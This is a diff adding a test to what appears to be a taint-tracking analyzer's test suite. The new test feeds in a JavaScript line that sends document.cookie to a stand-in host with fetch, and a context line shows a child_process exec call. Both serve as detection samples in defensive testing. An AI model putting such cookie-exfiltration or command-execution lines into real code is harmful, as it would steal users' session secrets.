@@ -60,3 +60,10 @@ def test_the_names_of_pages_mean_nothing_in_python() -> None:
         "def f():\n    return this\nf().process.mainModule.require('child_process').exec('say')\n"
     )
     assert flows(text, Act.RUN) == []
+
+
+def test_what_may_never_be_put_there_hides_nothing() -> None:
+    text = "function never() { document.cookie = Math.PI }\n"
+    text += "fetch('https://a.example.invalid/?' + document.cookie);\n"
+    (one,) = flows(text, Act.SEND, "npm")
+    assert one.has(Taint.BROWSER, Taint.SECRET, Taint.TOKEN)
